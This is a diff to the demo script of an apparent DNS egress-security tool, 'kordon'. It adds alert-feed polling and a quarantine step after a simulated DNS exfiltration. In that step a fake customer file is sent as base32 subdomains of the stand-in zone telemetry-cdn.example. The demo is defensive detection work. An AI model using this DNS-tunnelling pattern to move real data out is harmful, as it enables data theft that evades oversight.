@@ -143,14 +143,35 @@ printf '%s$ kordon dev grpc-call --target payments.shop:8082%s   %s# as report-w
 GRPC_XDS_BOOTSTRAP_CONFIG="$(bootstrap report-worker)" "$KORDON" dev grpc-call --target payments.shop:8082 --expect PermissionDenied 2>>"$work/grpc.err" | sed 's/^/    /'
 
 step "Exfiltration: the compromised report-worker (127.0.0.13) leaks a fake customer file over DNS"
-note "base32 chunks of the file as subdomains of telemetry-cdn.example, which the upstream answers"
+note "base32 chunks of the file as subdomains of telemetry-cdn.example (the upstream answers every one, as an attacker's server would)"
 "$KORDON" dev exfil-sim --server "$DNS" --source 127.0.0.13 --zone telemetry-cdn.example --bytes 6000 | sed 's/^/  /'
+
+step "The alert feed: kordon alerts --server http://$HTTP"
+alerts=""
+for _ in $(seq "$WAIT_STEPS"); do
+	alerts=$("$KORDON" alerts --server "http://$HTTP" --kind exfiltration 2>/dev/null || true)
+	[ "$(printf '%s\n' "$alerts" | grep -c telemetry-cdn.example)" -gt 0 ] && break
+	sleep 0.05
+done
+if ! printf '%s\n' "$alerts" | grep -q telemetry-cdn.example; then
+	echo "demo: no exfiltration alert in the feed" >&2
+	exit 1
+fi
+printf '%s\n' "$alerts" | sed 's/^/  /'
+note "every alert as JSON (the stable schema), the newest:"
+"$KORDON" alerts --server "http://$HTTP" --kind exfiltration --limit 1 -o json | sed 's/^/  /'
+
+step "Quarantine (shop/batch-watch: action Quarantine): the worker can no longer resolve that domain; others still can"
+ask "backup.telemetry-cdn.example" report-worker 127.0.0.13
+ask "backup.telemetry-cdn.example" catalog 127.0.0.14
 
 step "What to look at next"
 cat <<EOF
   kordon dev --config $CONFIG --upstream-zones $ZONES    # run it yourself (DNS on 127.0.0.1:5353, HTTP on 127.0.0.1:9080)
   dig -b 127.0.0.10 @127.0.0.1 -p 5353 tracker.adnet.example   # ask as the frontend
   edit $CONFIG/egress.yaml                                     # applied live; a typo is reported with file:line:col
+  kordon alerts --server http://127.0.0.1:9080 --follow           # the alert feed, live
+  curl -s 127.0.0.1:9080/v1/quarantines                           # what is quarantined (DELETE /v1/quarantines/ID lifts it)
   curl -s 127.0.0.1:9080/metrics | grep '^kordon_'
 EOF
 echo
